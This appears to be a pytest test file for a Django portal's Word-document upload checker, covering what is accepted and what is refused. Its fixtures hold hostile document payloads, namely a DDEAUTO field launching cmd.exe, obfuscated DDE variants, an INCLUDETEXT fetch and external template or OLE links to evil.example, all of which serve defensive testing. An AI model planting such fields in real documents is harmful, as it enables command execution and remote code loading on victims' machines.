"""What is taken and what is refused in a Word text."""

import pytest
from django.core.exceptions import ValidationError

from cluster_portal.files.checks import check
from cluster_portal.files.inspection import others, texts
from cluster_portal.files.kinds import FileKind
from tests.files import samples
from tests.files.samples import changed_archive, upload

KINDS = (FileKind.PDF, FileKind.DOCX, FileKind.XLSX)
RELATIONS = "word/_rels/document.xml.rels"
LINK = (
    b'<Relationship Id="rId9" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
    b'relationships/%s" Target="http://evil.example/" TargetMode="External"/></Relationships>'
)


def checked(content, name="du-thao.docx"):
    return check(upload(content, name), KINDS)


def refusal(content) -> ValidationError:
    with pytest.raises(ValidationError) as error:
        checked(content)
    return error.value


def linked(kind: bytes) -> bytes:
    return changed_archive(samples.text(), replace={RELATIONS: (b"</Relationships>", LINK % kind)})


def runs(*codes: str) -> str:
    inner = "".join(f"<w:r><w:instrText>{code}</w:instrText></w:r>" for code in codes)
    begin, end = (f'<w:r><w:fldChar w:fldCharType="{edge}"/></w:r>' for edge in ("begin", "end"))
    return begin + inner + end


@pytest.mark.parametrize(
    "field",
    [
        "",
        runs(" PAGE ", "  \\* MERGEFORMAT "),
        runs(' HYPERLINK "https://moha.gov.vn/dde/include" '),
        runs("TOC \\o", "1-3") + '<w:fldSimple w:instr=" NUMPAGES "/><w:instrText/><w:t>b</w:t>',
    ],
)
def test_plain_texts_keep_every_byte(field):
    content = samples.text(field)
    found = checked(content)
    assert (found.kind, found.content, found.name) == (FileKind.DOCX, content, "du-thao.docx")


def test_a_link_to_a_page_is_taken_and_no_other():
    assert checked(linked(b"hyperlink")).kind == FileKind.DOCX
    for kind in (b"attachedTemplate", b"oleObject", b"image", b"frame"):
        error = refusal(linked(kind))
        assert (error.code, error.messages) == ("active", [texts.ACTIVE])


@pytest.mark.parametrize(
    "part",
    [
        *("word/vbaProject.bin", "word/embeddings/oleObject1.bin", "word/activeX/activeX1.xml"),
        *("word/afchunk.mht", "word/afchunk.rtf", "word/afchunk.html"),
    ],
)
def test_what_would_do_something_is_refused(part):
    assert refusal(changed_archive(samples.text(), add={part: b"x"})).code == "active"


@pytest.mark.parametrize(
    "field",
    [
        runs(' DDEAUTO c:\\windows\\system32\\cmd.exe "/k calc" '),
        runs("D", "DE", "AUTO cmd"),
        runs("D<!-- -->DEAUTO cmd"),
        runs("&#68;DEAUTO cmd"),
        runs('PAGE "') + runs("DDE cmd") + runs('"'),
        runs(' INCLUDETEXT "http://evil.example/a.docx" '),
        '<w:fldSimple w:instr=" LINK Excel.Sheet "/>',
    ],
)
def test_a_field_that_calls_out_is_refused(field):
    assert refusal(samples.text(field)).code == "active"


def test_a_text_in_disguise_or_in_pieces_is_refused():
    assert refusal(samples.text()[:-30]).code in {"unreadable", "kind"}
    assert refusal(b"%PDX" + samples.text()).code == "kind"
    old = others._COMPOUND + others._WORD
    assert refusal(old).messages == [others.OLD_WORD]
    assert refusal(others._COMPOUND + others._ENCRYPTED).messages == [others.LOCKED]


def test_where_no_text_is_asked_for_it_is_refused():
    with pytest.raises(ValidationError, match="Đây là tệp Word"):
        check(upload(samples.text(), "a.docx"), [FileKind.XLSX])
